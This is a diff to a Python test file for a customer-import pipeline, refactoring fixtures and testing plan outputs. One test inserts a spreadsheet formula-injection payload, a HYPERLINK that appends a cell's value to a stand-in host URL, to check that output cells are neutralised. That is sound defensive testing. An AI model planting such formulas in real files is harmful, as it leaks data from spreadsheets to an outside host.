@@ -8,6 +8,7 @@ import shlex
 import shutil
 import sys
 from collections.abc import Iterator
+from contextlib import contextmanager
 from pathlib import Path
 from typing import Any
 
@@ -30,9 +31,10 @@ from pipelines.push.plan_ledger import PlanLedger
 from pipelines.push.run import new_operations
 from sources.errors import UsageError
 from sources.files.formulas import neutralize
-from tests.pipelines.bridge import Bridge, bridge, command
+from tests.pipelines.bridge import Bridge, bridge, command, pulled
 from tests.sources.files.test_workbook import sheet, text, workbook
 
+FEW: dict[str, Any] = {"customers": 6, "orders": 0, "promotions": 1, "price_lists": 1}
 HOST = "http://127.0.0.1:9"
 VARIANTS = """
 kind = "variants"
@@ -471,14 +473,27 @@ def test_a_subcategory_that_was_created_before_is_not_sent_again(work: Path) -> 
 # --- customers -------------------------------------------------------------------------------------------------------
 
 
+@contextmanager
+def working(platform: Bridge) -> Iterator[Bridge]:
+    """A folder to plan in."""
+    os.environ |= {"SOURCES__LEGACY__LOGIN_MODE": "email"}
+    work = platform.folder.parent / "work"
+    work.mkdir()
+    os.chdir(work)
+    yield platform
+
+
 @pytest.fixture
 def platform(tmp_path: Path) -> Iterator[Bridge]:
-    """A sandbox whose customers were pulled, and a folder to plan in."""
-    with bridge(tmp_path, customers=6, orders=0, promotions=1, price_lists=1) as made:
-        os.environ |= {"SOURCES__LEGACY__LOGIN_MODE": "email"}
-        work = tmp_path / "work"
-        work.mkdir()
-        os.chdir(work)
+    """A sandbox that was pulled, and a folder to plan in."""
+    with pulled(tmp_path, **FEW) as made, working(made):
+        yield made
+
+
+@pytest.fixture
+def unread(tmp_path: Path) -> Iterator[Bridge]:
+    """The same before the pull."""
+    with bridge(tmp_path, **FEW) as made, working(made):
         yield made
 
 
@@ -489,7 +504,6 @@ def customers(rows: str, mapping: str = CUSTOMERS, **more: Any) -> PlanResult:
 
 
 def test_customers_that_were_created_since_they_were_read_are_counted(platform: Bridge) -> None:
-    platform.pull("customers")
     assert customers("NEW1;Ana;ana@example.com;;N1").created_since == 0
     host = platform.platform.url
     with Ledger.open(platform.folder / "ledger.sqlite") as ledger, ledger.transaction() as connection:
@@ -507,7 +521,6 @@ def test_customers_that_were_created_since_they_were_read_are_counted(platform: 
 
 
 def test_customers_are_sorted_by_what_the_platform_has(platform: Bridge) -> None:
-    platform.pull("customers", "price_lists")
     first, second, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
     rows = [
         "NEW1;Ana;ana@example.com;;N1",
@@ -548,33 +561,32 @@ def test_customers_are_sorted_by_what_the_platform_has(platform: Bridge) -> None
 
 
 def test_a_file_of_which_the_intake_refuses_every_row_is_rejected_as_a_whole(platform: Bridge) -> None:
-    platform.pull("customers")
     made = customers("A\0;Ana;a@x.es;;\n")
     assert (made.exit_code, fates(made)) == (5, {2: ("rejected", "nul")})
     assert (made.folder / "rejects.csv").read_text("cp1252").count("\n") == 2
     adds_up(made)
 
 
-def test_rows_of_the_platforms_list_that_were_refused_are_reported(platform: Bridge) -> None:
-    platform.platform.state.add("customers", {"erpCode": "E007", "birthdate": 7})
-    platform.pull("customers")
+def test_rows_of_the_platforms_list_that_were_refused_are_reported(unread: Bridge) -> None:
+    unread.platform.state.add("customers", {"erpCode": "E007", "birthdate": 7})
+    unread.pull("customers")
     made = customers("E007;Ana;ana@example.com;;N1\n")
     assert made.manifest.read is not None
     assert (made.manifest.read.rows, made.manifest.read.refused) == (6, 1)
     reported = (made.folder / "summary.md").read_text("utf-8")
     assert "\n1 row of the platform's list is in quarantine and was not compared (see ops.quarantine).\n" in reported
     assert "the push looks up each new customer again before it sends" in reported
-    platform.platform.state.add("customers", {"erpCode": "E008", "birthdate": 7})
-    platform.pull("customers")
+    unread.platform.state.add("customers", {"erpCode": "E008", "birthdate": 7})
+    unread.pull("customers")
     reported = (customers("E007;Ana;ana@example.com;;N1\n").folder / "summary.md").read_text("utf-8")
     assert "\n2 rows of the platform's list are in quarantine and were not compared" in reported
 
 
-def test_no_cell_of_the_plans_files_runs_in_a_spreadsheet(platform: Bridge) -> None:
+def test_no_cell_of_the_plans_files_runs_in_a_spreadsheet(unread: Bridge) -> None:
     """Issue 12, item 3: a name that somebody typed into the platform, and one in the file."""
     formula = '=HYPERLINK("http://x.test/?"&A1)'
-    platform.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
-    platform.pull("customers")
+    unread.platform.state.add("customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"})
+    unread.pull("customers")
     quoted = formula.replace('"', '""')
     made = customers(f'E1;Ana;e1@x.es;;\nE1;"{quoted}";other@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\n')
     alone = customers("E1;Ana;e1@x.es;;\n")
@@ -587,15 +599,15 @@ def test_no_cell_of_the_plans_files_runs_in_a_spreadsheet(platform: Bridge) -> N
                     assert [cell for cell in row if neutralize(cell) != cell] == [], path
 
 
-def test_customers_need_a_warehouse_of_the_same_host(platform: Bridge) -> None:
+def test_customers_need_a_warehouse_of_the_same_host(unread: Bridge) -> None:
     with pytest.raises(UsageError, match="no warehouse") as reported:
         customers("A;Ana;a@x.es;;\n")
     assert "orderbridge pull customers" in reported.value.hint
-    platform.pull("price_lists")
+    unread.pull("price_lists")
     with pytest.raises(UsageError, match="has no customers read from the platform") as reported:
         customers("A;Ana;a@x.es;;\n")
     assert "orderbridge pull customers" in reported.value.hint
-    platform.pull("customers")
+    unread.pull("customers")
     os.environ["SOURCES__LEGACY__BASE_URL"] = HOST
     with pytest.raises(UsageError, match="were read from") as reported:
         customers("A;Ana;a@x.es;;\n")
@@ -603,7 +615,6 @@ def test_customers_need_a_warehouse_of_the_same_host(platform: Bridge) -> None:
 
 
 def test_nobody_gets_a_message_unless_it_is_asked_for(platform: Bridge) -> None:
-    platform.pull("customers")
     silent, notified, mailed = (
         customers("A;Ana;a@x.es;;\nB;Bea;b@x.es;;\n", passwords=way, notify=notify)
         for way, notify in (("file", False), ("file", True), ("mail", False))
@@ -617,7 +628,6 @@ def test_nobody_gets_a_message_unless_it_is_asked_for(platform: Bridge) -> None:
 
 
 def test_where_passwords_come_from_must_be_reported(platform: Bridge) -> None:
-    platform.pull("customers")
     with pytest.raises(UsageError, match="password") as reported:
         customers("A;Ana;a@x.es;;\n", passwords=None)
     for way in ("column", "mail", "file"):
@@ -627,7 +637,6 @@ def test_where_passwords_come_from_must_be_reported(platform: Bridge) -> None:
 
 
 def test_a_password_is_nowhere_in_the_plan(platform: Bridge) -> None:
-    platform.pull("customers")
     mapping = CUSTOMERS + '"Clave" = "password"\n'
     rows = "Código;Nombre;Correo;Teléfono;NIF;Clave\nA;Ana;a@x.es;;;hunter2\nB;;;;;hunter3\nC;Ana;c@x.es;;;hunter4\n"
     rows += "C;Ana;c@x.es;;;hunter4\nD;Ana;d@x.es;;;hunter5\nD;Ana;d@x.es;;;hunter6\n"
@@ -645,7 +654,7 @@ def test_a_password_is_nowhere_in_the_plan(platform: Bridge) -> None:
     adds_up(made)
 
 
-def test_all_that_a_plan_lacks_is_named_at_once(platform: Bridge) -> None:
+def test_all_that_a_plan_lacks_is_named_at_once(unread: Bridge) -> None:
     """Issue 12, item 5: no warehouse yet, no source of passwords, no login mode."""
     del os.environ["SOURCES__LEGACY__LOGIN_MODE"]
     with pytest.raises(UsageError) as error:
@@ -662,7 +671,6 @@ def printed(text: str) -> list[list[str]]:
 @pytest.mark.parametrize("place", ["terminal", "summary.md"])
 def test_the_commands_of_a_summary_work_as_printed(platform: Bridge, tmp_path: Path, place: str) -> None:
     """Issue 12, item 5: without a mapping file, the choice of passwords made on the command line."""
-    platform.pull("customers")
     (tmp_path / "in.csv").write_text("erpCode,firstName,email\nA,Ana,a@x.es\nB,,\n", "utf-8")
     env = dict(os.environ)
     options = ["--passwords", "file", "--notify", "--out", "my plan"]
@@ -735,14 +743,12 @@ def test_characters_that_people_use_are_not(text: str) -> None:
 
 
 def test_the_login_mode_must_be_reported(platform: Bridge) -> None:
-    platform.pull("customers")
     del os.environ["SOURCES__LEGACY__LOGIN_MODE"]
     with pytest.raises(UsageError, match="how customers log in"):
         customers("A;Ana;a@x.es;;\n")
 
 
 def test_a_plan_of_another_read_of_the_platform_is_another_plan(platform: Bridge) -> None:
-    platform.pull("customers")
     first = customers("A;Ana;a@x.es;;\n")
     assert not customers("A;Ana;a@x.es;;\n").is_new
     platform.pull("customers")
